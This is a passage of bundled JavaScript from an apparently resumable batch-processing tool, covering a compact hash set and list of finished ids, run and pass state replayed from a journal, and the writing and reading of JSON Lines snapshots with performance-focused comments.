                grown.set(this.values);
            this.values = grown;
        }
        this.values[e] = value;
    }
    /** Each id with its value (0: none), in insertion order. */
    *withValues() {
        for (let e = 0; e < this.entries; e++) {
            const c = this.entryChunk[e];
            if (c === DELETED)
                continue;
            const start = this.entryStart[e];
            yield [this.chunks[c].toString("utf8", start, start + this.entryLength[e]), this.valueAt(e)];
        }
        for (const id of this.illFormed)
            yield [id, 0];
    }
    has(id) {
        const hash = asciiHash(id);
        if (hash !== NOT_ASCII)
            return this.findAscii(id, hash) >= 0;
        if (!isWellFormed(id))
            return this.illFormed.has(id);
        const bytes = Buffer.from(id, "utf8");
        return this.findBytes(bytes, 0, bytes.length, bytesHash(bytes)) >= 0;
    }
    add(id) {
        const hash = asciiHash(id);
        if (hash !== NOT_ASCII) {
            if (this.findAscii(id, hash) >= 0)
                return this;
            const at = this.room(id.length);
            this.chunk.write(id, at, id.length, "latin1");
            this.insert(hash, at, id.length);
            return this;
        }
        if (!isWellFormed(id)) {
            this.illFormed.add(id);
            return this;
        }
        const bytes = Buffer.from(id, "utf8");
        this.addUtf8(bytes, 0, bytes.length);
        return this;
    }
    /**
     * Adds the id whose well-formed UTF-8 bytes are bytes[start, end) — as a snapshot holds
     * them — without making a string of it (snapshot-v2.ts reads done lines this way).
     */
    addUtf8(bytes, start, end) {
        this.entryOfUtf8(bytes, start, end);
    }
    /** The entry number of the id whose UTF-8 bytes are bytes[start, end), added when new. */
    entryOfUtf8(bytes, start, end) {
        const hash = bytesHash(bytes, start, end);
        const slot = this.findBytes(bytes, start, end, hash);
        if (slot >= 0)
            return this.table[2 * slot] - 1;
        const length = end - start;
        const at = this.room(length);
        bytes.copy(this.chunk, at, start, end);
        this.insert(hash, at, length);
        return this.entries - 1;
    }
    /**
     * Adds the ids at bytes[bounds[2i], bounds[2i + 1]) for i < count, all of them well-formed
     * UTF-8 inside bytes[blockStart, blockEnd), copying the block once instead of each id: a
     * snapshot's done line is such a block (the separators between ids are kept as waste,
     * 3 bytes an id). Copying 2M ids of 300 bytes one by one took half the load's time.
     */
    addUtf8Block(bytes, blockStart, blockEnd, bounds, count) {
        const at = this.room(blockEnd - blockStart);
        bytes.copy(this.chunk, at, blockStart, blockEnd);
        const shift = at - blockStart;
        if (blockHashes.length < count)
            blockHashes = new Uint32Array(2 * count);
        // First every id's hash, then a read of each one's slot in a tight loop: loads that do
        // not wait on each other, so the processor has many slots on their way at once; the
        // inserts below find them cached (one by one, each insert waited for its own miss).
        for (let i = 0; i < count; i++)
            blockHashes[i] = bytesHash(bytes, bounds[2 * i], bounds[2 * i + 1]);
        const table = this.table;
        const mask = (table.length >>> 1) - 1;
        let touched = 0;
        for (let i = 0; i < count; i++)
            touched |= table[2 * (blockHashes[i] & mask)];
        this.touched = touched;
        for (let i = 0; i < count; i++) {
            const start = bounds[2 * i];
            const end = bounds[2 * i + 1];
            const hash = blockHashes[i];
            if (this.findBytes(bytes, start, end, hash) < 0)
                this.insert(hash, start + shift, end - start);
        }
    }
    delete(id) {
        const hash = asciiHash(id);
        let slot;
        if (hash !== NOT_ASCII)
            slot = this.findAscii(id, hash);
        else if (!isWellFormed(id))
            return this.illFormed.delete(id);
        else {
            const bytes = Buffer.from(id, "utf8");
            slot = this.findBytes(bytes, 0, bytes.length, bytesHash(bytes));
        }
        if (slot < 0)
            return false;
        const e = this.table[2 * slot] - 1;
        this.entryChunk[e] = DELETED;
        if (this.values !== undefined)
            this.setValueAt(e, 0);
        this.table[2 * slot] = TOMBSTONE;
        this.count--;
        return true;
    }
    clear() {
        this.chunks = [];
        this.chunk = EMPTY;
        this.used = 0;
        this.entryChunk = new Uint32Array(16);
        this.entryStart = new Uint32Array(16);
        this.entryLength = new Uint32Array(16);
        this.entries = 0;
        this.table = new Int32Array(2 * 16);
        this.count = 0;
        this.illFormed.clear();
        this.values = undefined;
    }
    *[Symbol.iterator]() {
        for (let e = 0; e < this.entries; e++) {
            const c = this.entryChunk[e];
            if (c === DELETED)
                continue;
            const start = this.entryStart[e];
            yield this.chunks[c].toString("utf8", start, start + this.entryLength[e]);
        }
        yield* this.illFormed;
    }
    /** The slot of an ASCII id, or -1. */
    findAscii(id, hash) {
        const table = this.table;
        const mask = (table.length >>> 1) - 1;
        for (let slot = hash & mask;; slot = (slot + 1) & mask) {
            const entry = table[2 * slot];
            if (entry === 0)
                return -1;
            if (entry < 0 || table[2 * slot + 1] !== (hash | 0))
                continue;
            const e = entry - 1;
            if (this.entryLength[e] !== id.length)
                continue;
            const chunk = this.chunks[this.entryChunk[e]];
            const start = this.entryStart[e];
            let i = 0;
            while (i < id.length && chunk[start + i] === id.charCodeAt(i))
                i++;
            if (i === id.length)
                return slot;
        }
    }
    /** The slot of an id given as its UTF-8 bytes, bytes[from, to), or -1. */
    findBytes(bytes, from, to, hash) {
        const table = this.table;
        const mask = (table.length >>> 1) - 1;
        for (let slot = hash & mask;; slot = (slot + 1) & mask) {
            const entry = table[2 * slot];
            if (entry === 0)
                return -1;
            if (entry < 0 || table[2 * slot + 1] !== (hash | 0))
                continue;
            const e = entry - 1;
            if (this.entryLength[e] !== to - from)
                continue;
            const start = this.entryStart[e];
            if (this.chunks[this.entryChunk[e]].compare(bytes, from, to, start, start + to - from) === 0)
                return slot;
        }
    }
    /** Where `length` more bytes go in the current chunk (a new one when they do not fit). */
    room(length) {
        if (this.chunks.length === 0 || this.used + length > this.chunk.length) {
            this.chunk = Buffer.allocUnsafeSlow(Math.max(CHUNK_BYTES, length));
            this.chunks.push(this.chunk);
            this.used = 0;
        }
        const at = this.used;
        this.used += length;
        return at;
    }
    /** Records a new entry whose bytes were just written at `start` of the current chunk. */
    insert(hash, start, length) {
        this.growEntries(this.entries + 1);
        const e = this.entries++;
        this.entryChunk[e] = this.chunks.length - 1;
        this.entryStart[e] = start;
        this.entryLength[e] = length;
        if (this.entries > this.capacity * MAX_LOAD)
            this.rehash(this.capacity * 2);
        place(this.table, hash, e);
        this.count++;
    }
    /** Room for `total` entries: exactly that many when reserving (a snapshot says how many), else doubling. */
    growEntries(total, exact = false) {
        if (total <= this.entryChunk.length)
            return;
        let capacity = this.entryChunk.length;
        if (exact)
            capacity = total;
        else
            while (capacity < total)
                capacity *= 2;
        for (const key of ["entryChunk", "entryStart", "entryLength"]) {
            const grown = new Uint32Array(capacity);
            grown.set(this[key]);
            this[key] = grown;
        }
    }
    /** A table of `capacity` slots holding every live entry (tombstones dropped). */
    rehash(capacity) {
        const table = new Int32Array(2 * capacity);
        for (let s = 0; s < this.table.length; s += 2) {
            const entry = this.table[s];
            if (entry > 0)
                place(table, this.table[s + 1], entry - 1);
        }
        this.table = table;
    }
}
/** Puts entry `e` with this hash in the first free slot of its probe sequence. */
function place(table, hash, e) {
    const mask = (table.length >>> 1) - 1;
    let slot = hash & mask;
    while (table[2 * slot] > 0)
        slot = (slot + 1) & mask; // a tombstone may be reused
    table[2 * slot] = e + 1;
    table[2 * slot + 1] = hash;
}
/** addUtf8Block's hashes of one block's ids; reused. */
let blockHashes = new Uint32Array(4096);
const EMPTY = Buffer.alloc(0);
const CHUNK_BYTES = 8 * 1024 * 1024;
const TOMBSTONE = -1;
/** indexOf's answer for an ill-formed id that is in the set (it has no entry). */
const ILL_FORMED_ENTRY = -2;
const DELETED = 0xffffffff;
/** At most this share of slots in use (ids and tombstones): probes stay short. */
const MAX_LOAD = 0.6;

;// CONCATENATED MODULE: ./src/core/state/id-list.ts

/**
 * The ids finished by the run in progress, in order: an append-only list that keeps ASCII
 * ids as bytes in large buffers (others as strings, few). A million id strings held in an
 * array for the whole run each survive two young-generation collections; with that many
 * survivors V8 grows the young generation to its maximum, and a run's peak memory grew by
 * about the size of the list again.
 */
class IdList {
    chunks = [];
    chunk = Buffer.alloc(0);
    used = 0;
    /** Per id: its chunk, start and length; chunk NOT_BYTES marks an id kept in `strings`. */
    chunkOf = new Uint32Array(1024);
    startOf = new Uint32Array(1024);
    lengthOf = new Uint32Array(1024);
    strings = new Map();
    count = 0;
    get length() {
        return this.count;
    }
    /**
     * Copies the id's characters into the chunk in a JavaScript loop that also checks they
     * are ASCII: a Buffer.write per id (a call into C++ for a dozen bytes) cost about a
     * tenth of a 1M no-op run, and joining ids to write a few KiB at a time still cost
     * flattening the joined string.
     */
    push(id) {
        if (this.count === this.chunkOf.length)
            this.grow();
        const i = this.count++;
        if (this.chunks.length === 0 || this.used + id.length > this.chunk.length) {
            this.chunk = Buffer.allocUnsafeSlow(Math.max(id_list_CHUNK_BYTES, id.length));
            this.chunks.push(this.chunk);
            this.used = 0;
        }
        const chunk = this.chunk;
        const start = this.used;
        for (let k = 0; k < id.length; k++) {
            const c = id.charCodeAt(k);
            if (c > 0x7f) {
                // Not ASCII: kept as a string (the bytes copied so far are not counted as used).
                this.chunkOf[i] = NOT_BYTES;
                this.strings.set(i, id);
                return;
            }
            chunk[start + k] = c;
        }
        this.chunkOf[i] = this.chunks.length - 1;
        this.startOf[i] = start;
        this.lengthOf[i] = id.length;
        this.used = start + id.length;
    }
    clear() {
        this.chunks = [];
        this.chunk = Buffer.alloc(0);
        this.used = 0;
        this.strings.clear();
        this.count = 0;
    }
    *[Symbol.iterator]() {
        for (let i = 0; i < this.count; i++) {
            const c = this.chunkOf[i];
            if (c === NOT_BYTES) {
                yield this.strings.get(i);
                continue;
            }
            const start = this.startOf[i];
            yield this.chunks[c].toString("latin1", start, start + this.lengthOf[i]);
        }
    }
    /**
     * The ids as JSON strings joined by commas (`"a","b"`), about maxBytes at a time (the
     * first list firstMaxBytes), each list handed to `emit` (its bytes are reused after emit returns). Copied from the
     * chunks' bytes, with no string per id, when an id needs no escape; else through
     * JSON.stringify. What a snapshot's done lines are made of.
     */
    forEachJsonList(maxBytes, firstMaxBytes, emit) {
        let out = Buffer.allocUnsafe(maxBytes + 64);
        let p = 0;
        let limit = firstMaxBytes;
        const room = (bytes) => {
            if (p + bytes <= out.length)
                return;
            const grown = Buffer.allocUnsafe(2 * (p + bytes));
            out.copy(grown, 0, 0, p);
            out = grown;
        };
        for (let i = 0; i < this.count; i++) {
            const c = this.chunkOf[i];
            const start = this.startOf[i];
            const end = start + this.lengthOf[i];
            const bytes = c === NOT_BYTES ? undefined : this.chunks[c];
            room(end - start + 3);
            if (p > 0)
                out[p++] = 0x2c;
            out[p] = 0x22;
            const plainEnd = bytes === undefined ? -1 : putPlainJsonBytes(out, p + 1, bytes, start, end);
            if (plainEnd !== -1) {
                out[plainEnd] = 0x22;
                p = plainEnd + 1;
            }
            else {
                const json = Buffer.from(JSON.stringify(bytes === undefined ? this.strings.get(i) : bytes.toString("latin1", start, end)), "utf8");
                room(json.length);
                p += json.copy(out, p);
            }
            if (p >= limit) {
                emit(out.subarray(0, p));
                p = 0;
                limit = maxBytes;
            }
        }
        if (p > 0)
            emit(out.subarray(0, p));
    }
    grow() {
        for (const key of ["chunkOf", "startOf", "lengthOf"]) {
            const grown = new Uint32Array(this[key].length * 2);
            grown.set(this[key]);
            this[key] = grown;
        }
    }
}
const id_list_CHUNK_BYTES = 4 * 1024 * 1024;
const NOT_BYTES = 0xffffffff;

;// CONCATENATED MODULE: ./src/core/state/batch-state.ts




/** Run history kept for progress charts; a run every 5 minutes for a week fits. */
const MAX_RUNS_KEPT = 2000;
/** Finished passes kept in the history; a pass a day for more than a year fits. */
const MAX_PASSES_KEPT = 500;
/**
 * The whole state in memory: finished ids, failed items, and the history of runs.
 * Built from a snapshot plus the journal replayed on top of it.
 */
class BatchState {
    /** Ids finished in earlier runs (from the snapshot and the replayed journal). */
    done = new DoneSet();
    /**
     * Ids finished by the run in progress. An array, not the set: a run never sees an id
     * twice (duplicates are skipped before it starts, done ids are not pending), so a hash
     * insert per item — the costliest step of checkpointing at a million items — buys
     * nothing until the next load. Compaction writes both.
     */
    doneThisRun = new IdList();
    failures = new Map();
    runs = [];
    origin = { seq: 0, runId: "", runAttempt: 0 };
    /** The current pass: 1 for every state from before passes existed. */
    pass = 1;
    /** ISO 8601: when the current pass's first run started (undefined before any run). */
    passStartedAt;
    /** ISO 8601: when a normal run first found nothing left in the current pass. */
    passCompletedAt;
    /** The `repeat` interval the latest run had, for telling when the next pass starts. */
    repeatMs;
    /** Finished passes, oldest first. */
    passes = [];
    /**
     * With reprocess-changed: the fingerprint of each done (or failed) item's content when
     * it was done (or failed). Empty unless the feature was used: it costs memory per item.
     */
    fingerprints = new StateFingerprints(() => this.done);
    /** Items whose version in this pass is not 0 (they changed since first done): few. */
    versions = new Map();
    /** The run whose start was replayed but not yet its end. */
    openRun;
    /** Items done over all runs. */
    get doneCount() {
        return this.done.size + this.doneThisRun.length;
    }
    /** Records an item the run in progress finished (the per-item hot path). */
    markDoneInRun(id) {
        this.doneThisRun.push(id);
        if (this.failures.size > 0)
            this.failures.delete(id);
        if (this.openRun)
            this.openRun.succeeded++;
    }
    /**
     * Records an item the run in progress finished with the fingerprint of its content
     * (reprocess-changed). It may have been done before in this pass (it changed since): such
     * an item is in the done set already, and must not be listed twice.
     */
    markDoneInRunWithFingerprint(id, fingerprint) {
        const index = this.done.indexOf(id);
        if (index !== -1) {
            this.markDone(id);
            this.done.setValueAt(index, fingerprint);
        }
        else {
            this.markDoneInRun(id);
            this.fingerprints.thisRun[this.doneThisRun.length - 1] = fingerprint;
        }
        if (this.fingerprints.failed.size > 0)
            this.fingerprints.failed.delete(id);
    }
    /** Records a finished item read back from the journal. */
    markDone(id) {
        this.done.add(id);
        if (this.failures.size > 0)
            this.failures.delete(id);
        // Counted here too, so a run killed before its end record still shows its progress.
        if (this.openRun)
            this.openRun.succeeded++;
    }
    /** Records the fingerprint and version a done or fail record carries. */
    noteVersion(record) {
        const fingerprint = parseFingerprintText(record.f);
        if (record.t === "done" && this.fingerprints.failed.size > 0)
            this.fingerprints.failed.delete(record.id);
        if (fingerprint !== undefined)
            this.fingerprints.set(record.id, fingerprint);
        if (record.v !== undefined && record.v > 0)
            this.versions.set(record.id, record.v);
        else if (this.versions.size > 0)
            this.versions.delete(record.id);
    }
    /** The current pass as it stands, in the history's form. */
    currentPass() {
        const runs = this.runs.filter((r) => (r.pass ?? 1) === this.pass).length;
        return {
            pass: this.pass,
            ...(this.passStartedAt === undefined ? {} : { startedAt: this.passStartedAt }),
            ...(this.passCompletedAt === undefined ? {} : { completedAt: this.passCompletedAt }),
            succeeded: this.doneCount,
            failed: this.failures.size,
            runs,
        };
    }
    /**
     * Starts pass `pass` at `at`: the current one goes to the history, and nothing is done
     * or failed in the new one. O(1) in the items but for clearing the sets.
     */
    startPass(pass, at) {
        if (pass <= this.pass)
            return;
        this.passes.push(this.currentPass());
        if (this.passes.length > MAX_PASSES_KEPT)
            this.passes.splice(0, this.passes.length - MAX_PASSES_KEPT);
        this.done.clear();
        this.doneThisRun.clear();
        this.failures.clear();
        this.fingerprints.clear();
        this.versions.clear();
        this.pass = pass;
        this.passStartedAt = at;
        this.passCompletedAt = undefined;
    }
    /**
     * A state saved before passes existed is pass 1: it started with the first run kept, and
     * it is complete when the last normal run left nothing.
     */
    adoptLegacyPass() {
        this.pass = 1;
        this.passStartedAt = this.runs[0]?.startedAt;
        const lastNormal = this.lastNormalRun();
        this.passCompletedAt = lastNormal?.remaining === 0 ? lastNormal.endedAt : undefined;
    }
    /**
     * The last normal run (not retry-failures) that recorded its end: its `total` and
     * `remaining` are what the source held and what was left, as far as the state knows.
     */
    lastNormalRun() {
        for (let i = this.runs.length - 1; i >= 0; i--) {
            const run = this.runs[i];
            if (run.mode === "run" && run.remaining !== undefined)
                return run;
        }
        return undefined;
    }
    /** Applies one journal record. Idempotent: every record carries absolute values. */
    apply(record) {
        switch (record.t) {
            case "done":
                this.markDone(record.id);
                if (record.f !== undefined || record.v !== undefined || this.versions.size > 0)
                    this.noteVersion(record);
                return;
            case "pass":
                this.startPass(record.pass, record.at);
                return;
            case "fail":
                this.applyFail(record);
                return;
            case "start":
                this.applyStart(record);
                return;
            case "end":
                this.applyEnd(record);
                return;
        }
    }
    applyFail(record) {
        // An item done earlier in the pass that changed and then failed is failed, not done.
        if (this.done.size > 0)
            this.done.delete(record.id);
        if (record.f !== undefined || record.v !== undefined || this.versions.size > 0)
            this.noteVersion(record);
        if (this.openRun)
            this.openRun.failed++;
        this.failures.set(record.id, {
            id: record.id,
            error: record.error,
            kind: record.kind,
            attempts: record.attempts,
            runs: record.runs,
            firstFailedAt: record.first,
            lastFailedAt: record.last,
            item: record.item,
            ...(record.raw === undefined ? {} : { raw: record.raw }),
            ...(record.shard === undefined ? {} : { shard: record.shard }),
        });
    }
    applyStart(record) {
        if (record.seq > this.origin.seq) {
            this.origin = { seq: record.seq, runId: record.runId, runAttempt: record.runAttempt };
        }
        this.passStartedAt ??= record.at;
        this.repeatMs = record.repeatMs;
        if (!this.runs.some((r) => r.seq === record.seq)) {
            this.openRun = {
                seq: record.seq,
                runId: record.runId,
                runAttempt: record.runAttempt,
                mode: record.mode,
                pass: record.pass ?? this.pass,
                startedAt: record.at,
                succeeded: 0,
                failed: 0,
            };
            this.runs.push(this.openRun);
            if (this.runs.length > MAX_RUNS_KEPT)
                this.runs.splice(0, this.runs.length - MAX_RUNS_KEPT);
        }
    }
    applyEnd(record) {
        const run = this.runs.find((r) => r.seq === record.seq);
        if (run === this.openRun)
            this.openRun = undefined;
        if (!run)
            return;
        run.endedAt = record.at;
        run.succeeded = record.succeeded;
        run.failed = record.failed;
        run.stopReason = record.stopReason;
        if (record.total !== undefined)
            run.total = record.total;
        if (record.remaining !== undefined)
            run.remaining = record.remaining;
        if (record.changed !== undefined)
            run.changed = record.changed;
        if (run.mode === "run" && record.remaining !== undefined && (run.pass ?? 1) === this.pass) {
            // Complete from the first run that left nothing; a later one that found new
            // items (or a changed one failing transiently) makes it incomplete again.
            if (record.remaining > 0)
                this.passCompletedAt = undefined;
            else
                this.passCompletedAt ??= record.at;
        }
    }
}

;// CONCATENATED MODULE: external "node:buffer"
const external_node_buffer_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:buffer");
;// CONCATENATED MODULE: ./src/core/state/done-line.ts

const PREFIX = Buffer.from('{"t":"done","ids":["');
const SUFFIX = Buffer.from('"]}');
const QUOTE = 0x22;
const COMMA = 0x2c;
const BACKSLASH = 0x5c;
/**
 * Reads a done line, `{"t":"done","ids":["a","b",…]}`, straight from its bytes into the
 * done set, when it has the plain form compactState writes for ASCII ids without escapes:
 * no decoding, no JSON.parse, no string per id, and the scanning done by native code
 * (indexOf, isAscii) — what makes 2M ids of 300 bytes load in about a second. With no
 * backslash a quote can only end a string, so `","` only separates ids, and each ASCII
 * byte is one character: the ids are what JSON.parse would give (it would also refuse a
 * raw control character, which no writer of ours leaves unescaped). Returns the ids
 * added, or -1 when the line is of another form (a fingerprint column, an escape, a
 * non-ASCII byte, an empty id): the caller parses it as JSON, which decides and words any
 * error. Nothing is added from a line until all of it was found plain.
 */
function addPlainDoneLine(bytes, start, end, done) {
    const idsStart = start + PREFIX.length;
    const idsEnd = end - SUFFIX.length; // the closing quote of the last id
    if (idsEnd <= idsStart ||
        bytes.compare(PREFIX, 0, PREFIX.length, start, idsStart) !== 0 ||
        bytes.compare(SUFFIX, 0, SUFFIX.length, idsEnd, end) !== 0)
        return -1;
    // Searched within the line only: indexOf from idsStart alone would scan to the end of
    // the reader's buffer for every line (most of a load's time with a large buffer).
    const ids = bytes.subarray(idsStart, idsEnd);
    if (ids.indexOf(BACKSLASH) !== -1 || !(0,external_node_buffer_namespaceObject.isAscii)(ids))
        return -1;
    let count = 0;
    for (let idStart = idsStart;; count++) {
        const quote = bytes.indexOf(QUOTE, idStart);
        if (quote === idStart)
            return -1; // an empty id
        if (2 * count + 2 > bounds.length)
            bounds = grow(bounds);
        bounds[2 * count] = idStart;
        bounds[2 * count + 1] = quote;
        if (quote === idsEnd)
            break;
        if (bytes[quote + 1] !== COMMA || bytes[quote + 2] !== QUOTE)
            return -1;
        idStart = quote + 3;
    }
    // The whole line was of the plain form: only now are its ids added, in one copy.
    done.addUtf8Block(bytes, idsStart, idsEnd, bounds, ++count);
    return count;
}
/** Where each id of the line being read starts and ends; reused from line to line. */
let bounds = new Uint32Array(2 * 4096);
function grow(old) {
    const grown = new Uint32Array(old.length * 2);
    grown.set(old);
    return grown;
}

;// CONCATENATED MODULE: ./src/core/state/pass-snapshot.ts


function passHeaderOf(state) {
    return {
        pass: state.pass,
        ...(state.passStartedAt === undefined ? {} : { passStartedAt: state.passStartedAt }),
        ...(state.passCompletedAt === undefined ? {} : { passCompletedAt: state.passCompletedAt }),
        ...(state.repeatMs === undefined ? {} : { repeatMs: state.repeatMs }),
    };
}
/** Applies the header's pass fields; false when it has none (a state from before passes). */
function applyPassHeader(r, state) {
    if (r.pass === undefined)
        return false;
    if (typeof r.pass !== "number" || !Number.isSafeInteger(r.pass) || r.pass < 1)
        throw new SchemaViolation(`'pass' must be a whole number from 1, not ${String(r.pass)}`);
    state.pass = r.pass;
    state.passStartedAt = optionalTime(r, "passStartedAt");
    state.passCompletedAt = optionalTime(r, "passCompletedAt");
    if (r.repeatMs !== undefined && (typeof r.repeatMs !== "number" || !(r.repeatMs > 0)))
        throw new SchemaViolation("'repeatMs' must be a positive number");
    state.repeatMs = r.repeatMs;
    return true;
}
function optionalTime(r, key) {
    const v = r[key];
    if (v === undefined)
        return undefined;
    // As checkRun reads startedAt: the text is shown, never computed with, if it is not a time.
    if (typeof v !== "string" || v === "" || v.length > 100)
        throw new SchemaViolation(`'${key}' must be an ISO time`);
    return v;
}
/** A finished pass as the history line stores it. */
function checkPassSummary(r) {
    const whole = (key, min) => {
        const v = r[key];
        if (typeof v !== "number" || !Number.isSafeInteger(v) || v < min)
            throw new SchemaViolation(`'${key}' must be a whole number from ${min}`);
        return v;
    };
    const startedAt = optionalTime(r, "startedAt");
    const completedAt = optionalTime(r, "completedAt");
    return {
        pass: whole("pass", 1),
        ...(startedAt === undefined ? {} : { startedAt }),
        ...(completedAt === undefined ? {} : { completedAt }),
        succeeded: whole("succeeded", 0),
        failed: whole("failed", 0),
        runs: whole("runs", 0),
    };
}
/** The fingerprints of the done line just written: one per id, in order (0: none). */
function fingerprintsLine(values) {
    return '{"t":"fingerprints","f":"' + encodeFingerprintColumn(values) + '"}';
}
/**
 * Applies a fingerprints line to the done entries of the line before it. When those
 * entries are not known one-to-one (a repeated or ill-formed id), the fingerprints are
 * left out: those items take their content at the next run as their baseline.
 */
function applyFingerprintsLine(r, from, count, state) {
    if (typeof r.f !== "string" || r.f.length % 8 !== 0 || !/^[A-Za-z0-9_-]*$/.test(r.f)) {
        throw new SchemaViolation("'f' must hold 8 base64url characters per done id");
    }
    if (count < 0 || r.f.length !== 8 * count)
        return;
    const values = decodeFingerprintColumn(r.f, count);
    for (let i = 0; i < count; i++)
        if (values[i] !== 0)
            state.done.setValueAt(from + i, values[i]);
}
/** The fingerprint a failure line carries, as its "f" member. */
function failureFingerprint(state, id) {
    const fingerprint = state.fingerprints.failed.get(id);
    return fingerprint === undefined ? {} : { f: fingerprintText(fingerprint) };
}
function applyFailureFingerprint(r, id, state) {
    if (r.f === undefined)
        return;
    const fingerprint = parseFingerprintText(r.f);
    if (fingerprint === undefined)
        throw new SchemaViolation("'f' must be 8 base64url characters");
    state.fingerprints.failed.set(id, fingerprint);
}
/** Lines of {"t":"versions"} records, each with up to `perLine` items. */
function versionLines(state, perLine = 2000) {
    const lines = [];
    let items = [];
    for (const entry of state.versions) {
        items.push(entry);
        if (items.length === perLine) {
            lines.push(JSON.stringify({ t: "versions", items }));
            items = [];
        }
    }
    if (items.length > 0)
        lines.push(JSON.stringify({ t: "versions", items }));
    return lines;
}
/** Applies a versions line; returns how many items it held. */
function applyVersionsLine(r, state) {
    if (!Array.isArray(r.items))
        throw new SchemaViolation("'items' must be an array");
    for (const entry of r.items) {
        if (!Array.isArray(entry) || typeof entry[0] !== "string" || !Number.isSafeInteger(entry[1]) || entry[1] < 1) {
            throw new SchemaViolation("a version must be [id, whole number from 1]");
        }
        state.versions.set(entry[0], entry[1]);
    }
    return r.items.length;
}


;// CONCATENATED MODULE: ./src/core/state/snapshot-v2.ts





const SNAPSHOT_FORMAT = "resumable-batch-state";
const SNAPSHOT_VERSION = 2;
/** How every version-2 snapshot starts: readers tell the versions apart by these bytes. */
const SNAPSHOT_V2_PREFIX = '{"t":"snapshot",';
/** A line of done ids holds about this many characters: one JSON.parse per line stays cheap. */
const DONE_LINE_CHARS = 64 * 1024;
/**
 * Snapshot version 2: JSON Lines, one record a line, each tagged by `t`, so no line is
 * larger than its largest record and the file is written and read a line at a time:
 *
 *   {"t":"snapshot","format":"resumable-batch-state","version":2,"generation":G,"origin":{…},"savedAt":"…","doneCount":D}
 *   {"t":"run", …RunRecord}            one per run kept (oldest first)
 *   {"t":"failure", …FailureRecord}    one per failed item
 *   {"t":"done","ids":["a","b",…]}     done ids, about 64 KiB of them a line
 *   {"t":"pass", …} {"t":"versions", …} {"t":"fingerprints", …}  passes, item versions and
 *                                      the fingerprints of the done line before (pass-snapshot.ts)
 *   {"t":"end","runs":R,"failures":F,"done":D,"passes":P,"versions":V}
 *
 * The first line comes first; the end line comes last and counts what came before it, so
 * a truncated copy is refused, never taken for a smaller state. A new kind of record is a
 * new tag: write it before the end line, read it in applyRecord, count it in the end line.
 */
function writeSnapshotV2(path, state, generation, savedAt) {
    return writeFileInPieces(path, (write, writeBytes) => {
        // doneCount lets a reader size its table once (the end line is what is checked).
        const header = {
            t: "snapshot",
            format: SNAPSHOT_FORMAT,
            version: SNAPSHOT_VERSION,
            generation,
            origin: state.origin,
            savedAt,
            doneCount: state.doneCount,
            ...passHeaderOf(state),
        };
        write(JSON.stringify(header) + "\n");
        for (const run of state.runs)
            write(JSON.stringify({ t: "run", ...run }) + "\n");
        for (const pass of state.passes)
            write(JSON.stringify({ t: "pass", ...pass }) + "\n");
        for (const line of versionLines(state))
            write(line + "\n");
        for (const failure of state.failures.values())
            write(JSON.stringify({ t: "failure", ...failure, ...failureFingerprint(state, failure.id) }) + "\n");
        writeDoneLines(state, write, writeBytes);
        const end = {
            t: "end",
            runs: state.runs.length,
            failures: state.failures.size,
            done: state.doneCount,
            ...(state.passes.length > 0 ? { passes: state.passes.length } : {}),
            ...(state.versions.size > 0 ? { versions: state.versions.size } : {}),
        };
        write(JSON.stringify(end) + "\n");
    });
}
/** The done ids, about DONE_LINE_CHARS of them a line (with reprocess-changed, each line's fingerprints after it). */
function writeDoneLines(state, write, writeBytes) {
    let chunk = [];
    // reprocess-changed: the fingerprints of the chunk's ids, in the same order.
    const withFingerprints = state.fingerprints.any;
    let values = [];
    let chunkChars = 0;
    const flushIds = () => {
        if (chunk.length === 0)
            return;
        write('{"t":"done","ids":' + JSON.stringify(chunk) + "}\n");
        // A line of its own, so the done line keeps the plain form that loads fastest.
        if (withFingerprints)
            write(fingerprintsLine(values) + "\n");
        chunk = [];
        values = [];
        chunkChars = 0;
    };
    const add = (id, value) => {
        chunk.push(id);
        if (withFingerprints)
            values.push(value);
        chunkChars += id.length + 3;
        if (chunkChars >= DONE_LINE_CHARS)
            flushIds();
    };
    if (withFingerprints)
        for (const [id, value] of state.done.withValues())
            add(id, value);
    else
        for (const id of state.done)
            add(id, 0);
    if (withFingerprints) {
        const thisRun = state.fingerprints.thisRun;
        let i = 0;
        for (const id of state.doneThisRun)
            add(id, thisRun[i++] ?? 0);
        flushIds();
    }
    else {
        // This run's ids straight from the list's bytes: no string per id, no JSON.stringify
        // of an array of them (a tenth of a 1M no-op run's time, at its end). The first of
        // their lines goes on with the earlier ids not yet written.
        let earlier = chunk.length === 0 ? "" : JSON.stringify(chunk).slice(1, -1) + ",";
        const firstMaxBytes = DONE_LINE_CHARS - chunkChars;
        chunk = [];
        state.doneThisRun.forEachJsonList(DONE_LINE_CHARS, firstMaxBytes, (list) => {
            write('{"t":"done","ids":[' + earlier);
            earlier = "";
            writeBytes(list);
            write("]}\n");
        });
        if (earlier !== "")
            write('{"t":"done","ids":[' + earlier.slice(0, -1) + "]}\n");
    }
}
/** Reads a version-2 snapshot into state (which must be empty); returns its generation. */
function readSnapshotV2(path, state, fileBytes) {
    let generation = -1;
    let ended = false;
    const seen = { runs: 0, failures: 0, done: 0, passes: 0, versions: 0 };
    let hasPass = false;
    /** The entries the last done line added, for the fingerprints line after it. */
    const lastDone = { from: 0, count: -1 };
    const decoder = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true });
    forEachLineBytes(path, (bytes, start, end, lineNumber, terminated) => {
        const where = `${path}:${lineNumber}`;
        if (!terminated)
            throw new StateError(`${where}: the last line is cut off; the snapshot is truncated`);
        if (ended)
            throw new StateError(`${where}: a line after the end record; the snapshot is corrupt`);
        if (lineNumber > 1) {
            const before = state.done.entryCount;
            const added = addPlainDoneLine(bytes, start, end, state.done);
            if (added >= 0) {
                seen.done += added;
                noteDoneEntries(lastDone, state, before, added);
                return;
            }
        }
        let line;
        try {
            line = decoder.decode(bytes.subarray(start, end));
        }
        catch {
            throw new StateError(`${where}: not valid UTF-8; the snapshot is corrupt`);
        }
        let record;
        try {
            record = JSON.parse(line);
        }
        catch (error) {
            throw new StateError(`${where}: not readable JSON (${error.message}); the snapshot is corrupt`);
        }
        try {
            if (!isObject(record))
                throw new SchemaViolation("a line must be a JSON object");
            if (lineNumber === 1) {
                generation = applyHeader(record, state, fileBytes);
                hasPass = applyPassHeader(record, state);
            }
            else if (record.t === "end") {
                checkEnd(record, seen);
                ended = true;
            }
            else
                applyRecord(record, state, seen, lastDone);
        }
        catch (error) {
            if (error instanceof SchemaViolation)
                throw new StateError(`${where}: ${error.message}`);
            throw error;
        }
    });
    if (generation < 0)
